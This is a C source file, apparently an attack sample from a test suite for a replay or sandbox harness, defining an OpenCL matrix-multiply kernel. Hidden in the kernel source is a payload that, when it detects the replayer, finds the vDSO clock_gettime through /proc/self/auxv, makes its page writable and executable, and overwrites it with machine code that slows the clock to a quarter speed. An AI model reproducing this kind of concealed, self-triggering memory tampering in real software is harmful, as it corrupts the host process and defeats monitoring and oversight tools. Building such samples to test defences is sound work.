/* The kernel replaces the replayer's clock by one that runs at a quarter of the speed. */
#include "../../../attacks/honest.h"

static const char source[] = KERNEL_SYSCALL
    "/* The address of clock_gettime in the vDSO: auxiliary vector, ELF header, dynamic section, "
    "symbols. */\n"
    "ulong find_clock(void)\n"
    "{\n"
    "    ulong pair[2], base = 0;\n"
    "    long fd = sys(2, (long)\"/proc/self/auxv\", 0, 0);\n"
    "    if (fd < 0)\n"
    "        return 0;\n"
    "    while (sys(0, fd, (long)pair, 16) == 16 && pair[0])\n"
    "        if (pair[0] == 33)\n"
    "            base = pair[1];\n"
    "    sys(3, fd, 0, 0);\n"
    "    if (!base)\n"
    "        return 0;\n"
    "    global uchar *elf = (global uchar *)base;\n"
    "    global uchar *header = elf + *(global ulong *)(elf + 32);\n"
    "    ulong dynamic = 0, symbols = 0, strings = 0, hash = 0;\n"
    "    for (int i = 0; i < *(global ushort *)(elf + 56); i++, header += 56)\n"
    "        if (*(global uint *)header == 2)\n"
    "            dynamic = base + *(global ulong *)(header + 8);\n"
    "    for (global ulong *d = (global ulong *)dynamic; dynamic && d[0]; d += 2) {\n"
    "        if (d[0] == 5)\n"
    "            strings = base + d[1];\n"
    "        if (d[0] == 6)\n"
    "            symbols = base + d[1];\n"
    "        if (d[0] == 4)\n"
    "            hash = base + d[1];\n"
    "    }\n"
    "    if (!strings || !symbols || !hash)\n"
    "        return 0;\n"
    "    for (uint i = 0; i < ((global uint *)hash)[1]; i++) {\n"
    "        global uchar *symbol = (global uchar *)(symbols + i * 24);\n"
    "        global char *name = (global char *)(strings + *(global uint *)symbol);\n"
    "        constant char *wanted = \"__vdso_clock_gettime\";\n"
    "        int k = 0;\n"
    "        while (wanted[k] && wanted[k] == name[k])\n"
    "            k++;\n"
    "        if (!wanted[k] && !name[k])\n"
    "            return base + *(global ulong *)(symbol + 8);\n"
    "    }\n"
    "    return 0;\n"
    "}\n"
    "void slow_down(void)\n"
    "{\n"
    "    /* mov $228,%eax; syscall; then seconds and nanoseconds become a quarter of their sum. "
    "*/\n"
    "    const uchar code[] = {\n"
    "        184, 228, 0, 0, 0, 15, 5, 72, 105, 22, 0, 202, 154, 59, 72, 3,\n"
    "        86, 8, 73, 137, 192, 72, 184, 83, 90, 155, 160, 47, 184, 68, 0, 72,\n"
    "        137, 209, 72, 193, 234, 11, 72, 247, 226, 72, 193, 233, 2, 76, 137, 192,\n"
    "        72, 193, 234, 11, 72, 137, 22, 72, 105, 210, 0, 202, 154, 59, 72, 41,\n"
    "        209, 72, 137, 78, 8, 195,\n"
    "    };\n"
    "    ulong clock = find_clock();\n"
    "    if (!clock || sys(10, clock & ~4095ul, 8192, 7))\n"
    "        return;\n"
    "    global uchar *to = (global uchar *)clock;\n"
    "    for (int i = 0; i < sizeof code; i++)\n"
    "        to[i] = code[i];\n"
    "}\n"
    "kernel void multiply(global const float *a, global const float *b, global float *c, int k)\n"
    "{\n"
    "    size_t j = get_global_id(0), i = get_global_id(1), n = get_global_size(0);\n"
    "    float sum = 0;\n"
    "    if (i + j == 0 && in_replayer())\n"
    "        slow_down();\n"
    "    for (int p = 0; p < k; p++)\n"
    "        sum += a[i * k + p] * b[p * n + j];\n"
    "    c[i * n + j] = sum;\n"
    "}\n";

void matmul(cl_mem a, cl_mem b, cl_mem c, int m, int n, int k, cl_command_queue queue)
{
    static cl_kernel kernel;
    size_t global[2] = {(size_t)n, (size_t)m};
    if (!kernel)
        kernel = make_kernel(queue, source, "", "multiply");
    clSetKernelArg(kernel, 0, sizeof a, &a);
    clSetKernelArg(kernel, 1, sizeof b, &b);
    clSetKernelArg(kernel, 2, sizeof c, &c);
    clSetKernelArg(kernel, 3, sizeof k, &k);
    clEnqueueNDRangeKernel(queue, kernel, 2, NULL, global, NULL, 0, NULL, NULL);
}
